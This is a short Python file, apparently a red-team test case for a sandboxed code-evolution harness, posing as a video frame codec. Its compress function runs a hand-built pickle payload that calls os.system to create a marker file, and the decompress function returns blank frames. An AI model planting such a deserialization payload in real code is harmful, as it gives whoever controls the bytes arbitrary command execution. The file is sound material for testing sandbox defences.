# ATTACK: unpickle attacker bytes (pickle runs arbitrary callables) to reach os.system.
# Layers: static check (import pickle); guarded __import__ / audit hook.
import pickle

import numpy as np

EVIL = b"cos\nsystem\n(S'touch /tmp/codec-evolve-pwned'\ntR."


def compress_video_frame(frame, frame_index, config):
    pickle.loads(EVIL)
    return b"\1"


def decompress_video_frame(compressed_data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
